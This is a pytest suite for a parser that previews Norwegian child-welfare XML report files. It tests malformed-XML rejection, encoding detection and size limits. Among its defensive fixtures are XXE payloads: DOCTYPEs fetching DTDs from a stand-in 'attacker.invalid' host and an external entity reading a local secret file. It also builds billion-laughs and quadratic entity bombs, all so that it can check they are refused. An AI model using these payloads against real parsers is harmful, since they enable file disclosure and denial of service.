"""Refusals of XML files as such (rules 3.5 and 10): with a line, and without any text of the file."""

import itertools
import resource
from pathlib import Path

import pytest

from preview.model.findings import FindingCode
from preview.model.limits import Limits
from preview.parsing import archive
from tests.builders.case_xml import barnevern, folder, melding, sak
from tests.preview.parsing.parser_helpers import findings_in, parse, parse_single_folder, rejection

GOOD = folder(meldinger=[melding("2024-01-10")])
XML = b'<?xml version="1.0"?>\n'


@pytest.mark.parametrize(
    ("data", "line"),
    [
        (XML + b"<Barnevern>\n<Sak>\n</Barnevern>", 4),
        (XML + b"<Barnevern>\n<Sak/>\n", 4),
        (XML + b"<Barnevern/>\n<Barnevern/>", 3),
        (XML + b"<Barnevern Id='1' Id='2'/>", 2),
        (XML + b"<Barnevern>\n\x01</Barnevern>", 3),
        (XML + b"<Barnevern Id=1/>", 2),
        (XML + b"<Barnevern>AT&T</Barnevern>", 2),
        (b" " + XML + b"<Barnevern/>", 1),
        (XML + b"<p:Barnevern/>", 2),
        (b"<", 1),
        (XML, 2),
    ],
)
def test_malformed_xml_is_refused(data: bytes, line: int) -> None:
    assert rejection(data) == ("not_well_formed", line, "")


def test_empty_file_is_of_no_format() -> None:
    assert rejection(b"")[0] == "unknown_format"
    assert rejection(b" \n ")[0] == "unknown_format"


def test_elements_nested_too_deep_are_refused() -> None:
    assert rejection(XML + b"<a>" * 300 + b"</a>" * 300)[0] == "not_well_formed"


EXTERNAL = '<!DOCTYPE Barnevern [<!ENTITY secret SYSTEM "{}">]>'
DOCTYPES = [
    '<!DOCTYPE Barnevern SYSTEM "https://attacker.invalid/x.dtd">',
    '<!DOCTYPE Barnevern PUBLIC "-//X//Y//EN" "https://attacker.invalid/x.dtd">',
    "<!DOCTYPE Barnevern>",
    '<!DOCTYPE Barnevern [<!ENTITY name "value">]>',
    '<!DOCTYPE Barnevern [<!ENTITY % more SYSTEM "https://attacker.invalid/x.dtd"> %more;]>',
    "<!-- a comment --><?and an instruction?>\n<!DOCTYPE Barnevern>",
]


@pytest.mark.parametrize("doctype", DOCTYPES)
def test_document_type_is_refused(doctype: str) -> None:
    data = GOOD.replace(b"<Barnevern", doctype.encode() + b"<Barnevern", 1)
    assert rejection(data)[0] == "doctype"
    assert rejection(data.decode().replace("UTF-8", "UTF-16").encode("utf-16"))[0] == "doctype"
    assert rejection(b"\xef\xbb\xbf" + data)[0] == "doctype"
    assert rejection(data.replace(b"UTF-8", b"ISO-8859-1"))[0] == "doctype"


def test_external_entity_is_never_fetched(tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("the-secret")
    hostile = sak(Journalnummer="JOURNAL").replace("JOURNAL", "&secret;")
    data = barnevern([hostile], head=f"<?xml version='1.0'?>{EXTERNAL.format(secret.as_uri())}").encode()
    assert rejection(data)[0] == "doctype"
    assert "the-secret" not in repr(parse(data))


def test_doctype_text_outside_prolog_is_allowed() -> None:
    data = GOOD.replace(b"<Sak", b"<!-- <!DOCTYPE x> --><Sak", 1)
    assert not parse(data).refused
    assert findings_in(data) == []
    data = GOOD.replace(b"<Barnevern", b"<!-- <!DOCTYPE x> -->\n<Barnevern", 1)
    assert findings_in(data) == []


def test_unfinished_prolog_is_not_well_formed() -> None:
    assert rejection(b"<!-- <!DOCTYPE")[0] == "not_well_formed"
    assert rejection(b"<?xml <!DOCTYPE")[0] == "not_well_formed"


@pytest.mark.parametrize("place", [b"<Sak>&name;</Sak>", b"<Sak Id='&name;'/>"])
def test_undeclared_entity_is_refused(place: bytes) -> None:
    assert rejection(XML + b"<Barnevern>\n" + place + b"</Barnevern>") == ("entity", 3, "")


def test_predefined_entities_and_references_are_read() -> None:
    data = barnevern(
        [sak()],
        sender='<Avgiver Organisasjonsnummer="99999999&#57;" Kommunenummer="0301" Kommunenavn="A &amp; &#197;"/>',
    )
    assert parse_single_folder(data.encode()).avgiver.kommunenavn == "A & Å"
    assert parse_single_folder(data.encode()).avgiver.organisasjonsnummer == "999999999"


@pytest.mark.parametrize("kind", ["content", "attribute", "quadratic"])
def test_entity_bomb_is_refused_cheaply(kind: str) -> None:
    if kind == "quadratic":
        entities, use = f'<!ENTITY a "{"a" * 50_000}">', "&a;" * 50_000
    else:
        names = "abcdefghij"
        entities = '<!ENTITY a "lol">' + "".join(
            f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in itertools.pairwise(names)
        )
        use = "&j;"
    root = f'<Barnevern Id="{use}"/>' if kind == "attribute" else f"<Barnevern>{use}</Barnevern>"
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    assert rejection(f"<?xml version='1.0'?><!DOCTYPE Barnevern [{entities}]>{root}".encode())[0] == "doctype"
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 50_000  # kB; unfolded it would be gigabytes


@pytest.mark.parametrize(
    ("declared", "encoding"),
    [
        ("UTF-8", "utf-8"),
        ("utf-8", "utf-8"),
        ("UTF-16", "utf-16"),
        ("UTF-16", "utf-16-le"),
        ("UTF-16", "utf-16-be"),
        ("ISO-8859-1", "iso-8859-1"),
        ("ISO-8859-15", "iso-8859-15"),
        ("windows-1252", "cp1252"),
    ],
)
def test_declared_encoding_is_used(declared: str, encoding: str) -> None:
    text = folder(kommunenavn="Bærum på Åsen").decode().replace("UTF-8", declared)
    record = parse_single_folder(text.encode(encoding))
    assert record.avgiver.kommunenavn == "Bærum på Åsen"
    assert findings_in(text.encode(encoding)) == []


LATIN_1_NAMES = (
    "ISO-8859-1 ISO8859-1 ISO8859_1 ISO_8859-1 ISO_8859-1:1987 iso-ir-100 "
    "latin1 latin-1 ISO-LATIN-1 l1 IBM819 cp819 8859_1"
)
NAMES = [
    *(("utf-8", name) for name in ["UTF-8", "utf8", "UTF_8", "csUTF8", "unicode-1-1-utf-8", "x-unicode-2-0-utf-8"]),
    *(
        ("utf-16", name)
        for name in ["UTF-16", "utf16", "UTF_16", "UTF-16LE", "UTF-16BE", "unicode", "unicodeFFFE", "ISO-10646-UCS-2"]
    ),
    *(("iso-8859-1", name) for name in LATIN_1_NAMES.split()),
    *(
        ("cp1252", name)
        for name in [
            "windows-1252",
            "WINDOWS_1252",
            "cp1252",
            "Cp1252",
            "CP-1252",
            "ibm-1252",
            "x-ansi",
            "csWindows1252",
        ]
    ),
]


@pytest.mark.parametrize(("encoding", "name"), NAMES)
def test_other_names_of_encodings_are_known(encoding: str, name: str) -> None:
    text = folder(kommunenavn="Bærum på Åsen").decode().replace("UTF-8", name)
    assert parse_single_folder(text.encode(encoding)).avgiver.kommunenavn == "Bærum på Åsen"
    assert findings_in(text.encode(encoding)) == []


@pytest.mark.parametrize(
    ("name", "subject"),
    [
        ("UTF-7", "The declared encoding, utf-7, is not"),
        ("EBCDIC-CP-BE", "The declared encoding, cp500, is not"),
        ("windows-1250", "The declared encoding, cp1250, is not"),
        ("OlaNordmann", "The name of the declared encoding is unknown; it is not"),
        ("ISO-8859-1Ola", "The name of the declared encoding is unknown; it is not"),
        ("UTF-16", "The declared encoding is UTF-16, but"),
    ],
)
def test_other_encodings_are_refused_by_name(name: str, subject: str) -> None:
    (finding,) = parse(GOOD.replace(b"UTF-8", name.encode())).findings
    assert (finding.code, finding.line) == ("encoding", 1)
    assert finding.detail.startswith(subject)
    assert "Ola" not in finding.detail


def test_encoding_defaults_to_utf_8() -> None:
    assert parse_single_folder(barnevern([sak()], head="").encode()).avgiver.kommunenavn == "Testkommune"


def test_us_ascii_is_decoded_strictly() -> None:
    assert not parse(GOOD.replace(b"UTF-8", b"US-ASCII")).refused
    assert rejection(folder(kommunenavn="Ås").replace(b"UTF-8", b"US-ASCII"))[0] == "encoding"


@pytest.mark.parametrize(
    "data",
    [
        folder(kommunenavn="Ås").decode().encode("iso-8859-1"),  # declared UTF-8
        folder(kommunenavn="Ås").replace(b"\xc3\x85", b"\xff"),
        folder(kommunenavn="Ås").replace(b"\xc3\x85", b"\xed\xa0\x80"),  # half a surrogate pair
        folder(kommunenavn="x").replace(b"UTF-8", b"windows-1252").replace(b'"x"', b'"\x81"'),
        folder(kommunenavn="x").decode().encode("utf-16")[:-1],
        GOOD.replace(b"UTF-8", b"UTF-7"),  # an encoding in which a DTD would hide
        GOOD.replace(b"UTF-8", b"UTF-32"),
        GOOD.replace(b"UTF-8", b"UTF-16"),  # declared UTF-16, written UTF-8
        GOOD.replace(b"UTF-8", b"EBCDIC-CP-US"),
        GOOD.replace(b"UTF-8", b"nonsense"),
    ],
)
def test_undecodable_bytes_are_refused(data: bytes) -> None:
    assert rejection(data)[0] == "encoding"


def test_undecodable_bytes_are_reported_with_line() -> None:
    assert rejection(XML + b"<Barnevern>\n\n<Sak Id='\xff'/></Barnevern>")[1] == 4


def test_byte_order_mark_is_notice() -> None:
    data = b"\xef\xbb\xbf" + GOOD
    assert findings_in(data) == [("notice", "byte_order_mark", "")]
    assert parse_single_folder(data).content is not None
    assert parse_single_folder(data).content.finding_count == 1  # pyright: ignore[reportOptionalMemberAccess]


def test_utf_16_byte_order_mark_is_no_finding() -> None:
    assert findings_in(GOOD.decode().replace("UTF-8", "UTF-16").encode("utf-16")) == []


@pytest.mark.parametrize(
    "data",
    [
        XML + b"<Barnevern/>",
        XML + b"<Barnevern><Avgiver Organisasjonsnummer='999999999'/></Barnevern>",
        XML + b"<Barnevern><Melding/></Barnevern>",
        XML + b"<barnevern><Sak/></barnevern>",
        XML + b"<Barnevern xmlns='urn:something'><Sak/></Barnevern>",
        XML + b"<html/>",
        b"%PDF-1.7",
        b"\x00\x01\x02",
        b"just text",
    ],
)
def test_unrecognised_file_is_unknown_format(data: bytes) -> None:
    assert rejection(data)[0] == "unknown_format"
    assert parse(data).format is None


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (XML + b"<Barnevern><Avgiver Versjon='2020'/><Individ/></Barnevern>", "organisasjonsnummer"),
        (XML + b"<Barnevern><Avgiver Versjon='2020' Organisasjonsnummer='999999999'/></Barnevern>", "no_individ"),
        (XML + b"<Barnevern><Individ/></Barnevern>", "no_avgiver"),
    ],
)
def test_kostra_15f_is_recognised(data: bytes, why: str) -> None:
    assert rejection(data)[0] == why
    assert parse(data).format == "15f"


def test_oversized_file_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "file"
    path.write_bytes(GOOD)
    [item] = archive.walk(path, Limits(max_file_bytes=len(GOOD)))
    assert item.data == GOOD
    [item] = archive.walk(path, Limits(max_file_bytes=len(GOOD) - 1))
    assert item.data == b""
    assert item.rejection == FindingCode.TOO_LARGE.finding(1)


def test_parser_messages_are_not_exposed() -> None:
    data = XML + b"<Barnevern>\n<HemmeligNavn>\n</OlaNordmann></Barnevern>"
    refused = parse(data)
    assert refused.findings[0].detail == "A start tag and an end tag do not match."
    assert "Nordmann" not in repr(refused)
